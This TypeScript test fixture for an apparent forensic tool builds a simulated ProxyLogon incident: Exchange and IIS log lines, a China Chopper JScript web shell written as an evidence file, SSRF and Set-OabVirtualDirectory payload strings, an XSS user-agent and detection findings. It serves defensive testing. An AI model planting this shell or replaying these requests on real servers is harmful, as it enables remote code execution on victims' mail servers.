// A small, realistic ProxyLogon case for the report tests: real-shaped evidence files on disk, their manifest rows,
// the events parsed from them, analyst marks and the findings the detections would write.
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { openCaseDb, setMeta, type Db } from '../../../electron/case/db.ts';
import { EventInserter, insertFinding, insertWarning, markFileDone, nowIso, upsertFile } from '../../../electron/case/write.ts';
import { recordDetectionRun } from '../../../electron/detect/completeness.ts';
import type { FieldValue, FileKind, SourceId } from '../../../shared/types.ts';
import { isoToMicros } from '../../../shared/types.ts';

export const ATTACKER_IPS = ['165.232.154.116', '86.105.18.116'];
export const SCRIPT_UA = '<script>alert("ua")</script><img src=x onerror=alert(1)>';
export const CLIENT = 'Contoso Ltd & "Partners"';

const EP = 'C/Program Files/Microsoft/Exchange Server/V15';
const EP_WIN = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15';

const HTTPPROXY_FIELDS = 'DateTime,RequestId,Protocol,UrlHost,UrlStem,AuthenticatedUser,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,Method,RoutingHint,BackEndCookie,UrlQuery,GenericInfo';
const HTTPPROXY_ROWS = [
  '2021-03-03T02:23:51.448Z,7b3f2e61-4c1a-4d7e-9a55-0c2b9e5f1a01,Ecp,mail.contoso.com,/ecp/y.js,,ServerInfo~a]@EXCH01.contoso.local:444/autodiscover/autodiscover.xml?#,python-requests/2.25.1,165.232.154.116,EXCH01,200,POST,,,,',
  '2021-03-03T02:24:02.117Z,0f6ad1b2-8e43-4f0b-b7d2-5a9c3e21d402,Ecp,mail.contoso.com,/ecp/y.js,,ServerInfo~a]@EXCH01.contoso.local:444/ecp/proxyLogon.ecp#~1941962753,python-requests/2.25.1,165.232.154.116,EXCH01,241,POST,,,,',
  '2021-03-03T02:24:09.902Z,9c1e77a0-2b65-4e19-8f3d-6d0a4b7c8e03,Ecp,mail.contoso.com,/ecp/y.js,,ServerInfo~a]@EXCH01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=x#,python-requests/2.25.1,165.232.154.116,EXCH01,200,POST,,,,',
];
const ECP_LINES = [
  '#Software: Microsoft Exchange Server',
  '#Version: 15.01.2106.002',
  '#Log-type: ECP Server Log',
  '#Date: 2021-03-03T02:00:00.000Z',
  '#Fields: TimeStamp,ServerName,EventId,EventData',
  '2021-03-03T02:24:10.310Z,EXCH01,ECP.Request,"S:CMD=Set-OabVirtualDirectory.ExternalUrl=\'\'http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""p""],""unsafe"");}</script>\'\'.Identity=\'\'d5f1b7e2-0c3b-4c4e-9f5e-1c2d3e4f5a6b\'\'"',
];
const IIS_LINES = [
  '#Software: Microsoft Internet Information Services 10.0',
  '#Version: 1.0',
  '#Date: 2021-03-03 00:00:01',
  '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken',
  '2021-03-03 02:25:41 10.0.0.5 POST /aspnet_client/supp0rt.aspx - 443 - 86.105.18.116 antSword/v2.1 - 200 0 0 187',
  `2021-03-03 02:26:03 10.0.0.5 GET /owa/auth/logon.aspx - 443 - 86.105.18.116 ${SCRIPT_UA.replace(/ /g, '+')} - 200 0 0 12`,
  '2021-03-03 02:31:17 10.0.0.5 POST /aspnet_client/supp0rt.aspx - 443 - 86.105.18.116 antSword/v2.1 - 200 0 0 203',
];
const SHELL = '<script language="JScript" runat="server">function Page_Load(){eval(Request["exec_code"],"unsafe");}</script>\r\n';

export interface ReportCase {
  db: Db;
  casePath: string;
  evidenceRoot: string;
  shellSha256: string;
  shellRel: string;
  /** Event ids the analyst starred / tagged / annotated / added. */
  marked: { starred: number; tagged: number; noted: number; manual: number; probe: number };
  findingTitles: string[];
  eventCount: number;
}

const sha = (algo: string, b: Buffer): string => crypto.createHash(algo).update(b).digest('hex');

function addFile(db: Db, root: string, rel: string, orig: string, content: string, kind: FileKind): number {
  const abs = path.join(root, rel);
  fs.mkdirSync(path.dirname(abs), { recursive: true });
  fs.writeFileSync(abs, content);
  const b = fs.readFileSync(abs);
  const mtime = isoToMicros('2021-03-03T02:25:30Z');
  return upsertFile(db, {
    sourceId: 1, relPath: rel, origPath: orig, size: b.length, mtime, atime: mtime, ctime: mtime, btime: mtime,
    md5: sha('md5', b), sha1: sha('sha1', b), sha256: sha('sha256', b), kind, parser: null,
  });
}

/** Splits a simple CSV line (double-quoted cells with "" escapes), enough for the fixture's own lines. */
function csvCells(line: string): string[] {
  const out: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') { cur += '"'; i++; } else if (c === '"') quoted = false; else cur += c;
    } else if (c === '"') quoted = true; else if (c === ',') { out.push(cur); cur = ''; } else cur += c;
  }
  out.push(cur);
  return out;
}

const zip = (names: string[], values: string[]): Record<string, FieldValue> => Object.fromEntries(names.map((n, i) => [n, values[i] ?? '']));

export function buildReportCase(dir: string): ReportCase {
  const evidenceRoot = path.join(dir, 'evidence');
  const casePath = path.join(dir, 'contoso.loupe');
  const db = openCaseDb(casePath, { create: true });
  for (const [k, v] of Object.entries({ client: CLIENT, caseNumber: 'IR-2021-0042', examiner: 'J. Doe', displayZone: 'Europe/Oslo', companyName: 'Northwind Forensics', createdAt: '2021-03-08T09:00:00.000Z', loupeVersion: '0.1.0' })) setMeta(db, k, v);
  db.prepare('INSERT INTO evidence_sources (id, root, label, added_at, last_indexed_at) VALUES (1, ?, ?, ?, ?)').run(evidenceRoot, 'EXCH01 KAPE triage', nowIso(), nowIso());
  const ins = new EventInserter(db);
  const ev = (ts: string, tsDesc: string, source: SourceId, message: string, fields: Record<string, FieldValue>, file: string, fileId: number | null, line?: number, manual = false): number =>
    ins.insert({ ts: isoToMicros(ts), tsDesc, source, host: 'EXCH01', message, fields, ref: { file, ...(line ? { line } : {}) } }, fileId, manual);

  const hpRel = `${EP}/Logging/HttpProxy/Ecp/HttpProxy_2021030302-1.LOG`;
  const hpText = ['#Software: Microsoft Exchange Server', '#Version: 15.01.2106.002', '#Log-type: HttpProxy Logs', '#Date: 2021-03-03T02:00:00.000Z', `#Fields: ${HTTPPROXY_FIELDS}`, ...HTTPPROXY_ROWS].join('\r\n') + '\r\n';
  const ecpRel = `${EP}/Logging/ECP/Server/ECPServer2021030302-1.LOG`;
  const iisRel = 'C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log';
  const shellRel = 'C/inetpub/wwwroot/aspnet_client/supp0rt.aspx';
  const hpId = addFile(db, evidenceRoot, hpRel, `${EP_WIN}\\Logging\\HttpProxy\\Ecp\\HttpProxy_2021030302-1.LOG`, hpText, 'httpproxy-log');
  const ecpId = addFile(db, evidenceRoot, ecpRel, `${EP_WIN}\\Logging\\ECP\\Server\\ECPServer2021030302-1.LOG`, ECP_LINES.join('\r\n') + '\r\n', 'ecp-server-log');
  const iisId = addFile(db, evidenceRoot, iisRel, 'C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210303.log', IIS_LINES.join('\r\n') + '\r\n', 'iis-log');
  const shellId = addFile(db, evidenceRoot, shellRel, 'C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx', SHELL, 'web-script');
  const shellSha256 = sha('sha256', Buffer.from(SHELL));

  const hpNames = HTTPPROXY_FIELDS.split(',');
  // Line 8 (the SetObject row) is deliberately left out of the events: the report must read it from the file.
  const hp = HTTPPROXY_ROWS.slice(0, 2).map((row, i) => {
    const f = zip(hpNames, csvCells(row));
    return ev(String(f.DateTime), 'Request', 'httpproxy', `${f.Method} ${f.UrlStem} ${f.HttpStatus} ${f.ClientIpAddress} AnchorMailbox=${f.AnchorMailbox}`, f, hpRel, hpId, 6 + i);
  });
  const ecpCells = csvCells(ECP_LINES[5]);
  const ecp = ev(ecpCells[0], 'Logged', 'ecp-server', `${ecpCells[2]} ${ecpCells[3]}`, zip(['TimeStamp', 'ServerName', 'EventId', 'EventData'], ecpCells), ecpRel, ecpId, 6);
  const iisNames = IIS_LINES[3].slice('#Fields: '.length).split(' ');
  const iis = IIS_LINES.slice(4).map((l, i) => {
    const f = zip(iisNames, l.split(' '));
    return ev(`${f.date}T${f.time}Z`, 'Request', 'iis', `${f['cs-method']} ${f['cs-uri-stem']} ${f['sc-status']} ${f['c-ip']} ${String(f['cs(User-Agent)']).replace(/\+/g, ' ')}`, f, iisRel, iisId, 5 + i);
  });
  const fsEvent = ev('2021-03-03T02:25:30Z', 'File Created', 'filesystem', 'C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx created', { size: SHELL.length }, shellRel, shellId);
  const manual = ev('2021-03-05T14:00:00Z', 'Analyst note', 'manual', 'Client IT disconnected EXCH01 from the network', {}, '', null, undefined, true);
  for (const id of [hpId, ecpId, iisId, shellId]) markFileDone(db, id, 0);

  db.prepare('INSERT INTO event_marks (event_id, starred, note) VALUES (?, 1, NULL), (?, 0, ?)').run(iis[0], ecp, 'Attacker sets OAB ExternalUrl to a China Chopper stub');
  db.prepare('INSERT INTO event_tags (event_id, tag) VALUES (?, ?), (?, ?), (?, ?), (?, ?)').run(hp[1], 'ssrf', iis[0], 'webshell', manual, 'containment', iis[1], 'xss-probe');

  const findings: Array<Parameters<typeof insertFinding>> = [
    [db, { check: 'proxylogon.cve-2021-26855', severity: 'critical', confidence: 'confirmed', confidenceReason: 'HttpProxy answered 2xx to a forged ServerInfo~ back-end request', title: 'CVE-2021-26855 SSRF: 2 requests from 165.232.154.116', path: null, time: '2021-03-03T02:24:02.117Z', sha256: null, evidence: [{ file: hpRel, line: 7 }, { file: hpRel, line: 8 }] }, { details: { ip: '165.232.154.116', outcome: 'exploited', anchorMailbox: 'ServerInfo~a]@EXCH01.contoso.local:444/ecp/proxyLogon.ecp#~1941962753', status: 241 } }],
    [db, { check: 'proxylogon.cve-2021-27065', severity: 'critical', confidence: 'confirmed', confidenceReason: 'Set-OabVirtualDirectory with a script tag, recorded by Exchange itself', title: 'CVE-2021-27065: Set-OabVirtualDirectory with a script in ExternalUrl', path: null, time: '2021-03-03T02:24:10.310Z', sha256: null, evidence: [{ file: ecpRel, line: 6 }] }],
    [db, { check: 'webshell', severity: 'critical', confidence: 'confirmed', confidenceReason: 'matched Loupe\'s web-shell rule', title: 'Web shell: China Chopper (JScript eval) in aspnet_client', path: 'C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx', time: '2021-03-03T02:25:30.000Z', sha256: shellSha256, evidence: [{ file: shellRel }] }, { fileId: shellId, details: { kind: 'file', rules: ['Loupe_ChinaChopper_JScript_Eval'], reasons: ['YARA: China Chopper eval(Request[…],"unsafe")', 'server-side script in aspnet_client'] } }],
    [db, { check: 'ioc.ip', severity: 'high', confidence: 'likely', confidenceReason: 'client IP listed in an IOC list', title: 'Known HAFNIUM IP 86.105.18.116 in IIS logs', path: null, time: '2021-03-03T02:25:41.000Z', sha256: null, evidence: [{ file: iisRel, line: 5 }, { file: iisRel, line: 6 }, { file: iisRel, line: 7 }] }],
    [db, { check: 'story', severity: 'critical', confidence: 'confirmed', confidenceReason: 'confirmed findings among its traces', title: 'Attack story: ssrf → config-change → shell-written → shell-used', path: 'C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx', time: '2021-03-03T02:24:02.117Z', sha256: null, evidence: [{ file: hpRel, line: 7 }, { file: ecpRel, line: 6 }, { file: shellRel }, { file: iisRel, line: 5 }] }, {
      details: { attackerIps: ATTACKER_IPS, steps: [
        { stage: 'ssrf', ts: isoToMicros('2021-03-03T02:24:02.117Z'), text: 'first SSRF request from 165.232.154.116', ref: { file: hpRel, line: 7 } },
        { stage: 'config-change', ts: isoToMicros('2021-03-03T02:24:10.310Z'), text: 'virtual-directory configuration changed', ref: { file: ecpRel, line: 6 } },
        { stage: 'shell-written', ts: isoToMicros('2021-03-03T02:25:30Z'), text: 'web shell C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx written', ref: { file: shellRel } },
        { stage: 'shell-used', ts: isoToMicros('2021-03-03T02:25:41Z'), text: 'POST /aspnet_client/supp0rt.aspx from 86.105.18.116 (200)', ref: { file: iisRel, line: 5 } },
      ] },
    }],
  ];
  for (const f of findings) insertFinding(...f);
  // The detections ran after the last file was indexed: a complete case.
  recordDetectionRun(db, { startedAt: nowIso(), finishedAt: nowIso(), unreadable: [] });
  insertWarning(db, { file: iisRel, line: 9, message: 'expected 15 fields (from #Fields), found 3: line skipped' }, iisId);
  insertWarning(db, { file: `${EP}/Logging/OABGeneratorLog/OABGenerator20210303-1.LOG`, offset: 4096, message: 'invalid UTF-8 <b>bytes</b> replaced' }, null);
  db.prepare('INSERT INTO ioc_lists (name, path, sha256, format, count, added_at) VALUES (?, ?, ?, ?, ?, ?)').run('MSTIC Exchange March 2021', 'resources/iocs/mstic-exchange-2021.csv', 'cd74ce6e6f00006be31f8a5c4ff0206b246690243a0e3ac0f1674dd18eefe5f7', 'csv', 152, nowIso());
  db.prepare('INSERT INTO rule_packs (name, path, sha256, rules, added_at) VALUES (?, ?, ?, ?, ?)').run('loupe-hafnium', 'resources/rules/hafnium.yar', 'a'.repeat(64), 7, nowIso());
  const verify = { checked: 4, ok: 4, changed: [], missing: [], added: [], at: '2021-03-09T10:00:00.000Z' };
  db.prepare('INSERT INTO verify_runs (at, checked, ok, result) VALUES (?, ?, ?, ?)').run(verify.at, 4, 4, JSON.stringify(verify));
  const eventCount = (db.prepare('SELECT count(*) AS n FROM events').get() as { n: number }).n;
  void fsEvent;
  return {
    db, casePath, evidenceRoot, shellSha256, shellRel, eventCount,
    marked: { starred: iis[0], tagged: hp[1], noted: ecp, manual, probe: iis[1] },
    findingTitles: findings.map((f) => f[1].title),
  };
}
